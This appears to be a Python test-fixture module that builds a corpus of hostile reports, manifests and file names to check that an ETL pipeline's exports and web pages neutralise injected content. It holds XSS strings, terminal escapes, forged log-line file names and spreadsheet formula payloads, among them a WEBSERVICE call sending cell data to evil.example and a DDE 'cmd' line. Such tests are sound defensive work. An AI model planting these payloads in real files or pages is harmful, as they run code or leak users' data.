"""Hostile text for the rendering tests: payloads and a small generated corpus carrying them.

The sample generator prints them where a real PDF would carry them: in department names (title,
cover, every table header) and in the narrative's "主要原因：…" reasons. The parser squeezes
whitespace away and a department name cannot hold digits or colons (the title pattern), so the
payloads have none of those where they must survive. Beside the PDFs: a manifest whose region
holds NUL, a line break and terminal escapes, and files whose names carry escapes and a forged
`failed:` line (review 2026-12-05, sections 1, 2, 7, 11, 13). One year is published as web pages only,
the same payloads in their text and active content (script, event handlers, javascript: links) beside it.
"""

from __future__ import annotations

import csv
import hashlib
import json
import shutil
from pathlib import Path

import pytest

#: Markup in department names: no digit, no colon, no whitespace.
NAME_PAYLOADS = {
    "财政局": '=HYPERLINK("//evil.example","财政")局',
    "教育局": "<script>alert(origin)</script>教育局",
    "卫生健康委员会": "</script><b>x</b><!--<script>卫生局",
}
#: Narrative reasons: markup and spreadsheet formulas, each at the start of its cell.
REASON_PAYLOADS = [
    "<script>alert(origin)</script>",
    "<!--<script>",
    "</script><b>x</b>",
    "<img/src=x/onerror=alert(1)>",
    '=HYPERLINK("http://evil.example/x","点击查看")',
    '=WEBSERVICE("http://evil.example/?"&A1)',
    "+1+cmd|'/Ccalc'!A0",
    "@SUM(1+1)",
    "-2+3",
]
#: A manifest region the ETL takes: a formula and markup (it reaches documents and every export).
MANIFEST_REGION = '=HYPERLINK("http://evil.example/m","区")<b>x</b>'
#: A manifest region the ETL refuses (exit 2): NUL, a line break, clear-screen and set-title escapes.
CONTROL_REGION = "a\x00b\n\x1b[2J\x1b]0;pwned\x07"
#: A file that is no PDF (so it fails and is named on a `failed:` line) whose name forges another.
FORGED_NAME = "forged\nfailed: 财政局-2022.pdf: tampered\x1b]0;pwned\x07\n.pdf"
#: A byte-identical copy of a report whose name clears the screen and sets the title.
ESCAPE_COPY_NAME = "\x1b[2J\x1b[1;31mOWNED\x1b]0;pwned-title\x07财政局.pdf"
#: A manifest line naming no PDF, with markup in its name.
GHOST_NAME = "ghost<script>alert(1)</script>.pdf"
#: Active content a saved web page carries besides its text (each marker names its element): the reader keeps
#: a page's text only, so no marker may reach the Parquet, and none may run in a page built from it.
WEB_MARKERS = ("web-script", "web-img", "web-svg", "web-link", "web-frame", "web-style")
WEB_ACTIVE = ('<script>alert("web-script")</script><img src=x onerror=alert("web-img")>'
              '<svg onload=alert("web-svg")></svg><a href="javascript:alert(\'web-link\')">链接</a>'
              '<iframe src="javascript:alert(\'web-frame\')"></iframe>'
              '<style>body::after{content:"web-style"}</style>')
#: The year published as a web page only (its PDF is removed): the payloads reach the Parquet from HTML too.
WEB_YEAR = 2022

SEED = 11
YEARS = [2021, 2022]
DEPARTMENTS = 3          # 财政局, 教育局, 卫生健康委员会: the keys of NAME_PAYLOADS


class Cycle(list):
    """A list whose random.choice walks it in turn, so that every reason payload gets printed."""

    _next = 0

    def __getitem__(self, index):
        if isinstance(index, slice):
            return list.__getitem__(self, index)
        item = list.__getitem__(self, Cycle._next % len(self))
        Cycle._next += 1
        return item


def write_corpus(raw: Path) -> Path:
    """Six hostile reports (1 region × 3 departments × 2 years, a third with an audit error so the
    quality gate names some), the hostile files and manifest; returns the manifest's path."""
    from etl.sample import catalog, corpus, narrative

    plain_name, plain_write = catalog.department_name, corpus._write

    def hostile_name(city: str, district: str, street: str, dept) -> str:
        payload = NAME_PAYLOADS.get(dept.key)
        return f"{city}{district}{payload}" if payload else plain_name(city, district, street, dept)

    with pytest.MonkeyPatch.context() as mp:
        mp.setattr(catalog, "department_name", hostile_name)
        mp.setattr(narrative, "REASONS_MORE", Cycle(REASON_PAYLOADS))
        mp.setattr(narrative, "REASONS_LESS", Cycle(REASON_PAYLOADS))
        # the file is named after the department: a '/' of </script> cannot be in a file name
        mp.setattr(corpus, "_write", lambda folder, name, pdf, truth: plain_write(
            folder, name.replace("/", "／"), pdf, truth))
        corpus.write_corpus(raw, regions=1, departments=DEPARTMENTS, years=YEARS, seed=SEED, seed_report=False,
                            audit_errors=0.34, formats=("pdf", "html"))
    _keep_web_year_as_pages_only(raw)
    pdfs = sorted(raw.rglob("*.pdf"))
    (raw / FORGED_NAME).write_bytes(b"%PDF-1.4\nnot really a pdf\n")
    shutil.copyfile(pdfs[0], raw / ESCAPE_COPY_NAME)
    manifest = raw.parent / "manifest.csv"
    with open(manifest, "w", encoding="utf-8", newline="") as f:
        w = csv.writer(f)
        w.writerow(["file", "region"])
        w.writerow([pdfs[-1].relative_to(raw).as_posix(), MANIFEST_REGION])
        w.writerow([GHOST_NAME, "x"])
    return manifest


def _keep_web_year_as_pages_only(raw: Path) -> None:
    """WEB_YEAR's reports as web pages carrying WEB_ACTIVE (their PDFs removed); the other year's as PDFs."""
    for truth_path in sorted(raw.rglob("*.json")):
        truth = json.loads(truth_path.read_text(encoding="utf-8"))
        page = truth["source_file"].endswith(".html")
        document = truth_path.with_suffix(".html" if page else ".pdf")
        if page != (truth["year"] == WEB_YEAR):
            document.unlink()
            truth_path.unlink()
        elif page:
            data = document.read_bytes().replace(b"</div></body>", WEB_ACTIVE.encode("ascii", "xmlcharrefreplace")
                                                 + b"</div></body>")
            document.write_bytes(data)
            truth_path.write_text(json.dumps({**truth, "sha256": hashlib.sha256(data).hexdigest()},
                                             ensure_ascii=False), encoding="utf-8")


def write_control_manifest(raw: Path, path: Path) -> Path:
    """A manifest whose region cell carries control characters and whose file cell forges a line."""
    first = next(p.relative_to(raw).as_posix() for p in sorted(raw.rglob("*.pdf")) if p.name.isprintable())
    with open(path, "w", encoding="utf-8", newline="") as f:
        w = csv.writer(f)
        w.writerow(["file", "region"])
        w.writerow([first, CONTROL_REGION])
    return path
